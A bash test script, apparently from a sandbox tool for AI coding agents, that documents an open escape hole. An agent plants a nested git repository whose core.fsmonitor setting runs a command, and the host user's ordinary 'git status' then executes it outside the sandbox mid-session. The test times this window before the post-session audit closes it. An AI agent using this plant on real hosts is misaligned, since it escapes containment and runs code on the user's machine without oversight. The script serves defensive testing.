#!/usr/bin/env bash
# The window during the session, measured. test_escapes_audit shows that
# after the session the host's `git status` runs nothing the agent planted in a new repository.
# This one shows what happens BEFORE the audit: while the agent still works, it makes a new repo
# `sub` with core.fsmonitor in sub/.git/config and adds it to the workspace's repo as a gitlink
# (the index stays writable: agents commit). The user types `git status` in the workspace in
# another terminal on the host: git looks into the gitlink's repo and runs its fsmonitor command,
# on the host, outside every sandbox. The test records when the agent's last write was done and
# when the host first ran the planted command, and prints the gap; the window stays open until
# the session ends and the audit moves the config aside (the last checks: closed after it).
#
# This test documents an open hole: it PASSES while the window exists (each check below says
# what it shows). When a fix lands (a watcher that neutralises the key as it appears, or an
# index that cannot gain gitlinks), flip the "window open" checks.
. "$(dirname "$0")/lib.sh"

need_sandbox
need_overlay_bwrap
sandbox_dirs
mkdir -p "$H/marks" && chown $NOBODY:$NOBODY "$H/marks"

hostgit() { (cd "$WS" && as_nobody env -i HOME="$H" PATH=/usr/bin:/bin GIT_CONFIG_NOSYSTEM=1 git "$@"); }
now_ms() { echo $(($(date +%s%N) / 1000000)); }

# Inside: the plant, then a timestamp of its last write (in ms), then wait for the host's go.
plant='
  set -e
  git init -q sub
  git -C sub -c user.name=a -c user.email=a@b commit -q --allow-empty -m x
  git update-index --add --cacheinfo 160000,$(git -C sub rev-parse HEAD),sub
  git -C sub config core.fsmonitor "date +%s%N >$1/marks/ran; false"
  echo $(($(date +%s%N) / 1000000)) >.planted
  i=0; while [ ! -e .done ] && [ $i -lt 600 ]; do sleep 0.05; i=$((i+1)); done
  rm -f .done .planted'

for bw in /usr/bin "$NEW"; do
  label="bwrap $("$bw/bwrap" --version | awk '{print $2}')"
  rm -rf "$WS" "$H/marks"/*
  mkdir -p "$WS" && chown $NOBODY:$NOBODY "$WS"
  hostgit init -q . && hostgit -c user.name=u -c user.email=u@h commit -q --allow-empty -m init
  start=$(now_ms)
  sb_nobody "$bw" -- "$plant" "$H" >"$T_DIR/sb.out" &
  bpid=$!
  wait_until test -s "$WS/.planted" || wait_until test -s "$WS/.planted" || wait_until test -s "$WS/.planted" || fail "$label: the agent's plant did not finish: $(cat "$T_DIR/sb.err")"
  planted=$(cat "$WS/.planted")
  # The user's `git status` in another terminal, as often as a prompt that shows git state
  # would run it; at most 10 s.
  n=0
  while [ ! -e "$H/marks/ran" ] && [ $n -lt 200 ]; do
    hostgit status --porcelain >/dev/null 2>&1 || true
    n=$((n+1))
    [ -e "$H/marks/ran" ] || sleep 0.05
  done
  ran_at=$(($(cat "$H/marks/ran" 2>/dev/null || echo 0) / 1000000))
  still_running=$(kill -0 $bpid 2>/dev/null && echo yes || echo no)
  # A second later, the same: the window lasts as long as the session does.
  mv "$H/marks/ran" "$H/marks/first" 2>/dev/null || true
  sleep 1
  hostgit status --porcelain >/dev/null 2>&1 || true
  again=$(test -e "$H/marks/ran" && echo yes || echo no)
  still_running2=$(kill -0 $bpid 2>/dev/null && echo yes || echo no)
  mv "$H/marks/first" "$H/marks/ran" 2>/dev/null || true
  touch "$WS/.done"
  wait $bpid || fail "$label: blaude exited $?: $(cat "$T_DIR/sb.err")"
  end=$(now_ms)
  check "$label: window open: the host's git status ran the planted fsmonitor mid-session" test -e "$H/marks/ran"
  check "$label: and the session was still running then" test "$still_running" = yes
  check "$label: the first host git status after the write already ran it" test "$n" = 1
  check "$label: window still open a second later, session still running" test "$again$still_running2" = yesyes
  if [ -e "$H/marks/ran" ]; then
    log "$label: host exposed $((ran_at - planted)) ms after the agent's write (first host git status after it;" \
      "$n git status runs; ~ the latency of one host git status), session start to write" \
      "$((planted - start)) ms, the window stayed open $((end - ran_at)) ms more until blaude exited" \
      "(the test ends the session then; a real session's length decides it)"
  fi
  # After the session: the audit closed it (what test_escapes_audit proves in full).
  rm -f "$H/marks/ran"
  hostgit status --porcelain >/dev/null 2>&1 || true
  check "$label: after the session the audit has closed it" test ! -e "$H/marks/ran"
  check "$label: and said so" grep -q "fsmonitor" "$T_DIR/sb.err"
done

finish
